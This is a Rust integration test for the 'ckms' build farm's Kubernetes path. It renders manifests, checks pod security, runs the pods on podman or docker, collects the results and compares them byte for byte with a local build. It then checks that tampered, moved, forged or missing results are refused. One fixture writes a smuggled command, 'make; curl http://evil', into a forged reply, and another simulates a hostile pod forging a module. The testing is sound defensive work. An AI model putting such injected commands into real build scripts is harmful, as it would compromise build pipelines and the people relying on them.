//! The farm on Kubernetes, on each engine (fails when one is missing): `farm kube render` of
//! 3 module sources (a Debian package, a module that builds, one that fails in make) × 2
//! kernels pushes the images to Debian's docker-registry on loopback and writes manifests
//! that kubernetes-validate accepts (1.35 and the newest it knows) and whose pods pass
//! PodSecurity "restricted"; the pods run as written on the engine (tests/support/kube_pods.rs:
//! the image pulled by digest, read-only, no capabilities, no network, non-root, indexes 0..N
//! `parallelism` at a time); `farm kube collect` stores the same keys and byte-identical
//! modules as `farm build` of the same matrix on the same engine, the failed pair with its
//! make.log. Then, on the results: a tampered module, a result moved to another index, a
//! forged plan and a missing index are refused or reported, and a second render finds
//! nothing to build.
mod support;

#[path = "support/registry.rs"]
mod registry;

#[path = "support/kube_pods.rs"]
mod kube_pods;

#[path = "support/kube_pods_plan.rs"]
mod kube_pods_plan;

#[path = "support/kube_validate.rs"]
mod kube_validate;

#[path = "support/bookworm.rs"]
mod bookworm;

use std::collections::{BTreeMap, HashMap};
use std::path::{Path, PathBuf};
use std::time::Instant;

use support::{ckms, engine_host, newest_trixie, shared_cache, Outcome};

const KERNEL: &str = "6.1.0-56-amd64";
const CLAIM: &str = "ckms-results";

const C: &str =
    "#include <linux/module.h>\nstatic int __init i(void) { return 0; }\nmodule_init(i);\nMODULE_LICENSE(\"GPL\");\n";

/// A module source written for the test.
fn module(dir: &Path, name: &str, c: &str) -> String {
    let d = dir.join(name);
    std::fs::create_dir_all(&d).unwrap();
    let conf = format!(
        "PACKAGE_NAME=\"{name}\"\nPACKAGE_VERSION=\"1.0\"\nBUILT_MODULE_NAME[0]=\"{name}\"\nDEST_MODULE_LOCATION[0]=\"/updates/dkms\"\n"
    );
    std::fs::write(d.join("dkms.conf"), conf).unwrap();
    std::fs::write(d.join("Kbuild"), format!("obj-m := {name}.o\n")).unwrap();
    std::fs::write(d.join(format!("{name}.c")), c).unwrap();
    d.display().to_string()
}

fn run(engine: Option<&str>, args: &[&str]) -> Outcome {
    let cache = shared_cache();
    let mut all: Vec<&str> = Vec::new();
    if let Some(e) = engine {
        all.extend(["--engine", e]);
    }
    all.extend(["--cache-dir", cache.to_str().unwrap()]);
    all.extend_from_slice(args);
    ckms(all).run()
}

/// Every module file of a store, by its path in the store (pairs/<key>/...): unsigned and signed.
fn module_files(store: &Path) -> BTreeMap<String, Vec<u8>> {
    let mut out = BTreeMap::new();
    let pairs = store.join("pairs");
    for entry in std::fs::read_dir(&pairs).unwrap() {
        let dir = entry.unwrap().path();
        for sub in ["modules", "unsigned"] {
            let Ok(files) = std::fs::read_dir(dir.join(sub)) else { continue };
            for f in files {
                let f = f.unwrap().path();
                out.insert(f.strip_prefix(store).unwrap().display().to_string(), std::fs::read(&f).unwrap());
            }
        }
    }
    out
}

/// `farm status --json` of a store: (module, kernel) → status.
fn statuses(store: &Path) -> BTreeMap<(String, String), String> {
    let out = run(None, &["--json", "farm", "status", "--store", store.to_str().unwrap()]);
    out.expect_code(0);
    out.stdout
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .map(|v| {
            let module = v["module"].as_str().unwrap_or_default().to_string();
            let kernel = v["kernel"].as_str().unwrap_or_default().to_string();
            ((module, kernel), v["status"].as_str().unwrap_or_default().to_string())
        })
        .collect()
}

fn yaml_files(dir: &Path) -> Vec<PathBuf> {
    let mut files: Vec<PathBuf> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "yaml"))
        .collect();
    files.sort();
    files
}

/// Every rendered pod spec against PodSecurity "restricted" and ckms's own rules.
fn pod_security(dir: &Path) -> usize {
    let mut jobs = 0;
    for file in yaml_files(dir) {
        let text = std::fs::read_to_string(&file).unwrap();
        let value: serde_json::Value = serde_norway::from_str(&text).unwrap();
        if value["kind"] != "Job" {
            continue;
        }
        let job: k8s_openapi::api::batch::v1::Job = serde_json::from_value(value).unwrap();
        let spec = job.spec.unwrap().template.spec.unwrap();
        let broken: Vec<String> = ckms::kube::podsecurity::restricted(&spec)
            .into_iter()
            .chain(ckms::kube::podsecurity::ckms_rules(&spec))
            .collect();
        assert!(broken.is_empty(), "{}: {broken:?}", file.display());
        jobs += 1;
    }
    jobs
}

fn copy_tree(from: &Path, to: &Path) {
    let status = std::process::Command::new("cp").arg("-a").arg(from).arg(to).status().unwrap();
    assert!(status.success());
}

/// One matrix through render, the pods (as written, on the engine) and collect, then the same
/// matrix through `farm build` on the same engine: what the checks look at.
struct Pipeline {
    /// Alive while the pipeline is looked at (a render pushes to it).
    _registry: registry::LocalRegistry,
    dir: tempfile::TempDir,
    store: PathBuf,
    results: PathBuf,
    render: Vec<String>,
    collected: Outcome,
    local_code: i32,
}

fn pipeline(engine: &str, kernels: &[String], sources: &[String], parallelism: &str) -> Pipeline {
    let kind = if engine.contains("podman") { "podman" } else { "docker" };
    let dir = tempfile::tempdir().unwrap();
    let registry = registry::LocalRegistry::start();
    let [store, out, results, local] = ["store", "manifests", "results", "local"].map(|d| dir.path().join(d));
    let binary = kube_pods::pod_binary(dir.path());
    let reference = format!("{}/ckms/build", registry.host);
    let mut render: Vec<String> = ["farm", "kube", "render", "--store"].map(String::from).into();
    render.push(store.display().to_string());
    render.extend(["--registry".into(), reference, "--insecure".into(), "-o".into(), out.display().to_string()]);
    render.extend(["--ckms-binary".into(), binary.display().to_string()]);
    render.extend(kernels.iter().flat_map(|k| ["-k".to_string(), k.clone()]));
    render.extend(sources.iter().cloned());
    render.extend(["--parallelism", parallelism, "--cpus", "1"].map(String::from));
    let started = Instant::now();
    let rendered = run(None, &render.iter().map(String::as_str).collect::<Vec<_>>());
    rendered.expect_code(0);
    let render_secs = started.elapsed().as_secs_f64();
    // Pairs with BUILD_DEPENDS are left to `farm build`, and said so.
    let left = rendered.stdout.matches("left out:").count();
    let pairs = kernels.len() * sources.len() - left;
    // One Job per builder image: per kernel, and per set of extra packages a module's package needs.
    let jobs: usize = regex::Regex::new(&format!(r"(\d+) Job\(s\), {pairs} pair\(s\) to build"))
        .unwrap()
        .captures(&rendered.stdout)
        .unwrap_or_else(|| panic!("{rendered}"))[1]
        .parse()
        .unwrap();
    assert!(jobs >= kernels.len(), "{rendered}");

    kube_validate::validate(&yaml_files(&out));
    assert_eq!(pod_security(&out), jobs, "every Job's pods checked");

    std::fs::create_dir_all(&results).unwrap();
    let cli = if kind == "podman" {
        kube_pods::Cli::Podman { url: engine.to_string() }
    } else {
        kube_pods::Cli::Docker { host: engine.to_string() }
    };
    let started = Instant::now();
    let pods = kube_pods::run_rendered(&out, &cli, &HashMap::from([(CLAIM.to_string(), results.clone())]));
    let pods_secs = started.elapsed().as_secs_f64();
    kube_pods::remove_images(&out, &cli);
    assert_eq!(pods.len(), pairs);
    for p in &pods {
        // A failed build is a result: the pod succeeds.
        assert!(p.exit_code == 0 && !p.timed_out, "{} index {}: exit {}\n{}", p.job, p.index, p.exit_code, p.log);
    }
    let started = Instant::now();
    let collected = run(
        None,
        &["farm", "kube", "collect", "--store", store.to_str().unwrap(), "--from", results.to_str().unwrap()],
    );
    let collect_secs = started.elapsed().as_secs_f64();
    assert!(collected.stdout.contains(&format!("{pairs} stored, 0 refused, 0 without a result")), "{collected}");

    // The same matrix built locally on the same engine: the same keys, the same bytes.
    let mut args = vec!["farm".to_string(), "build".into(), "--store".into(), local.display().to_string()];
    args.extend(kernels.iter().flat_map(|k| ["-k".to_string(), k.clone()]));
    args.extend(sources.iter().cloned());
    let started = Instant::now();
    let built = run(Some(engine), &args.iter().map(String::as_str).collect::<Vec<_>>());
    let local_secs = started.elapsed().as_secs_f64();
    eprintln!(
        "kube on {kind}: {pairs} pairs in {jobs} Jobs ({left} left to farm build); render {render_secs:.1} s, \
         pods {pods_secs:.1} s (parallelism {parallelism}), collect {collect_secs:.1} s; local farm build {local_secs:.1} s"
    );
    let (ours, theirs) = (module_files(&store), module_files(&local));
    let kept: BTreeMap<&String, &Vec<u8>> = theirs.iter().filter(|(p, _)| left == 0 || ours.contains_key(*p)).collect();
    assert_eq!(ours.keys().collect::<Vec<_>>(), kept.keys().copied().collect::<Vec<_>>(), "the same keys and files");
    let differ: Vec<&String> = ours.iter().filter(|(p, b)| *b != &theirs[*p]).map(|(p, _)| p).collect();
    if !differ.is_empty() {
        // Kept to be looked at (diffoscope store/pairs/... local/pairs/...).
        let kept = dir.keep();
        panic!(
            "{} differ between the pods and the local build (both stores kept in {}): {differ:?}",
            differ.len(),
            kept.display()
        );
    }
    let status = statuses(&store);
    let local_status: BTreeMap<_, _> =
        statuses(&local).into_iter().filter(|(k, _)| left == 0 || status.contains_key(k)).collect();
    assert_eq!(status, local_status, "the same matrix");
    let counts = status.values().fold(BTreeMap::new(), |mut m, s| {
        *m.entry(s.clone()).or_insert(0) += 1;
        m
    });
    eprintln!("kube on {kind}: {counts:?}; {} module files byte-identical", ours.len());
    Pipeline { _registry: registry, dir, store, results, render, collected, local_code: built.code }
}

fn scenario(var: &str, faults: bool) {
    let engine = engine_host(var);
    let kernels = [KERNEL.to_string(), newest_trixie(&engine)];
    let src = tempfile::tempdir().unwrap();
    let sources = [
        "deb:v4l2loopback-dkms".to_string(),
        module(src.path(), "khello", C),
        module(src.path(), "kbroken", "#include <linux/module.h>\nthis is not C;\n"),
    ];
    let p = pipeline(&engine, &kernels, &sources, "2");
    // Reproducible images: the same plan rendered for an empty store pushes the same digests.
    let images = |dir: &Path| -> Vec<String> {
        let plan: serde_json::Value =
            serde_json::from_slice(&std::fs::read(dir.join("ckms/plan.json")).unwrap()).unwrap();
        plan["jobs"].as_array().unwrap().iter().map(|j| j["image"].as_str().unwrap().to_string()).collect()
    };
    let first = images(&p.dir.path().join("manifests"));
    assert_eq!(yaml_files(&p.dir.path().join("manifests")).len(), 2 + 2, "the claim, the policy, a Job per kernel");
    p.collected.expect_code(11);
    assert_eq!(p.local_code, 11);
    let status = statuses(&p.store);
    for k in &kernels {
        assert_eq!(status[&("kbroken".to_string(), k.clone())], "failed", "{status:?}");
        assert_eq!(status[&("khello".to_string(), k.clone())], "built", "{status:?}");
        assert_eq!(status[&("v4l2loopback".to_string(), k.clone())], "built", "{status:?}");
    }
    let failed_log = std::fs::read_dir(p.store.join("pairs"))
        .unwrap()
        .map(|e| e.unwrap().path().join("make.log"))
        .filter_map(|p| std::fs::read_to_string(p).ok())
        .find(|l| l.contains("kbroken"))
        .expect("the failed pair keeps its make.log");
    assert!(failed_log.contains("error"), "{failed_log}");

    let again = run(None, &p.render.iter().map(String::as_str).collect::<Vec<_>>());
    again.expect_code(0);
    assert!(again.stdout.contains("0 Job(s), 0 pair(s) to build"), "{again}");

    if faults {
        let (store2, out2) = (p.dir.path().join("store-2"), p.dir.path().join("manifests-2"));
        let args: Vec<String> = p
            .render
            .iter()
            .map(|a| match a {
                a if Path::new(a) == p.store => store2.display().to_string(),
                a if Path::new(a) == p.dir.path().join("manifests") => out2.display().to_string(),
                a => a.clone(),
            })
            .collect();
        run(None, &args.iter().map(String::as_str).collect::<Vec<_>>()).expect_code(0);
        assert_eq!(images(&out2), first, "the same plan, the same image digests");
        refusals(p.dir.path(), &p.store, &p.results, &engine);
    }
}

/// Results changed after the pods wrote them, on fresh copies of the store's plans.
fn refusals(dir: &Path, store: &Path, results: &Path, engine: &str) {
    let job = std::fs::read_dir(results).unwrap().map(|e| e.unwrap().file_name()).min().unwrap();
    let job = job.to_str().unwrap();
    let case_with = |name: &str, engine: Option<&str>, extra: &[&str], change: &dyn Fn(&Path)| -> (Outcome, PathBuf) {
        let copy = dir.join(format!("results-{name}"));
        copy_tree(results, &copy);
        change(&copy.join(job));
        let fresh = dir.join(format!("store-{name}"));
        std::fs::create_dir_all(&fresh).unwrap();
        std::fs::copy(store.join("ckms-store.json"), fresh.join("ckms-store.json")).unwrap();
        copy_tree(&store.join("kube"), &fresh.join("kube"));
        let mut args =
            vec!["farm", "kube", "collect", "--store", fresh.to_str().unwrap(), "--from", copy.to_str().unwrap()];
        args.extend_from_slice(extra);
        (run(engine, &args), fresh)
    };
    let case = |name: &str, change: &dyn Fn(&Path)| case_with(name, None, &[], change);
    let module_in = |d: &Path| -> PathBuf { d.join("output-0.tar") };

    let (out, _) = case("tampered", &|j| {
        let tar = module_in(&j.join("0"));
        let mut bytes = std::fs::read(&tar).unwrap();
        let at = bytes.len() / 2;
        bytes[at] ^= 0xff;
        std::fs::write(&tar, bytes).unwrap();
    });
    out.expect_code(11);
    assert!(out.stdout.contains("REFUSED") && out.stdout.contains("changed after its pod wrote it"), "{out}");
    assert!(out.stdout.contains("1 refused"), "{out}");

    let (out, _) = case("moved", &|j| {
        std::fs::remove_dir_all(j.join("1")).unwrap();
        copy_tree(&j.join("0"), &j.join("1"));
    });
    assert!(out.stdout.contains("but that index builds"), "{out}");

    let (out, _) = case("forged", &|j| {
        let d = j.join("0");
        let make = d.join("reply/make");
        std::fs::write(&make, b"make; curl http://evil").unwrap();
        let mut t: serde_json::Value =
            serde_json::from_slice(&std::fs::read(d.join("transcript.json")).unwrap()).unwrap();
        t["sha256"]["reply/make"] = support::sha256_file(&make).into();
        std::fs::write(d.join("transcript.json"), serde_json::to_vec(&t).unwrap()).unwrap();
    });
    assert!(out.stdout.contains("does not replay") && out.stdout.contains("another make"), "{out}");

    let (out, fresh) = case("missing", &|j| std::fs::remove_dir_all(j.join("2")).unwrap());
    assert!(out.stdout.contains("no result") && out.stdout.contains("1 without a result"), "{out}");
    assert_eq!(statuses(&fresh).len(), 5, "the missing index is not stored");

    // Untouched results with --check: the sample rebuilt here agrees, every entry is stored
    // (through the side store) and checks out.
    let (out, fresh) = case_with("checked", Some(engine), &["--check", "2"], &|_| {});
    out.expect_code(11);
    assert!(out.stdout.contains("--check: 2 of 2 rebuilt pair(s) identical"), "{out}");
    assert!(out.stdout.contains("6 stored, 0 refused"), "{out}");
    assert_eq!(statuses(&fresh), statuses(store), "{out}");
    assert_eq!(module_files(&fresh), module_files(store), "the same entries as collect without --check");

    // A pod that forges its own module, transcript and all: collect cannot tell (it is stored),
    // a local rebuild can: with --check nothing of the collect is stored.
    let (out, fresh) = case("forged-module", &forge_module);
    assert!(out.stdout.contains("0 refused"), "{out}");
    assert_eq!(statuses(&fresh).len(), 6, "{out}");
    let (out, fresh) = case_with("forged-checked", Some(engine), &["--check", "99"], &forge_module);
    out.expect_code(11);
    assert!(out.stdout.contains("differs: ") && out.stdout.contains("nothing of this collect was stored"), "{out}");
    assert!(out.stdout.contains("0 stored, 6 refused"), "{out}");
    assert!(statuses(&fresh).is_empty(), "{out}");
}

/// Appends bytes to the first module an index of the Job returned, and records the new
/// output's digest in its transcript, as a hostile pod would.
fn forge_module(job: &Path) {
    for index in 0.. {
        let d = job.join(index.to_string());
        let tar_path = d.join("output-0.tar");
        let mut a = tar::Archive::new(std::fs::File::open(&tar_path).unwrap());
        let mut b = tar::Builder::new(Vec::new());
        let mut forged = false;
        for e in a.entries().unwrap() {
            let mut e = e.unwrap();
            let mut bytes = Vec::new();
            std::io::Read::read_to_end(&mut e, &mut bytes).unwrap();
            let mut h = e.header().clone();
            if !forged && e.path().unwrap().extension().is_some_and(|x| x == "ko") {
                bytes.extend_from_slice(b"forged");
                forged = true;
            }
            h.set_size(bytes.len() as u64);
            h.set_cksum();
            b.append(&h, &bytes[..]).unwrap();
        }
        if !forged {
            continue;
        }
        std::fs::write(&tar_path, b.into_inner().unwrap()).unwrap();
        let mut t: serde_json::Value =
            serde_json::from_slice(&std::fs::read(d.join("transcript.json")).unwrap()).unwrap();
        t["sha256"]["output-0.tar"] = support::sha256_file(&tar_path).into();
        std::fs::write(d.join("transcript.json"), serde_json::to_vec(&t).unwrap()).unwrap();
        return;
    }
}

#[test]
fn kube_on_podman() {
    scenario("CKMS_TEST_PODMAN_HOST", true);
}

#[test]
fn kube_on_docker() {
    scenario("CKMS_TEST_DOCKER_HOST", false);
}

/// A larger matrix (ci/bench/kube-matrix.sh): CKMS_KUBE_ENGINE (podman or docker),
/// CKMS_KUBE_KERNELS and CKMS_KUBE_SOURCES (space-separated), CKMS_KUBE_PARALLELISM.
#[test]
#[ignore = "a benchmark: ci/bench/kube-matrix.sh runs it"]
fn larger_matrix() {
    let var = |v: &str| std::env::var(v).unwrap_or_else(|_| panic!("{v} is not set (ci/bench/kube-matrix.sh sets it)"));
    let engine = match var("CKMS_KUBE_ENGINE").as_str() {
        "docker" => engine_host("CKMS_TEST_DOCKER_HOST"),
        _ => engine_host("CKMS_TEST_PODMAN_HOST"),
    };
    let words = |v: &str| var(v).split_whitespace().map(String::from).collect::<Vec<_>>();
    let parallelism = std::env::var("CKMS_KUBE_PARALLELISM").unwrap_or_else(|_| "2".into());
    pipeline(&engine, &words("CKMS_KUBE_KERNELS"), &words("CKMS_KUBE_SOURCES"), &parallelism);
}
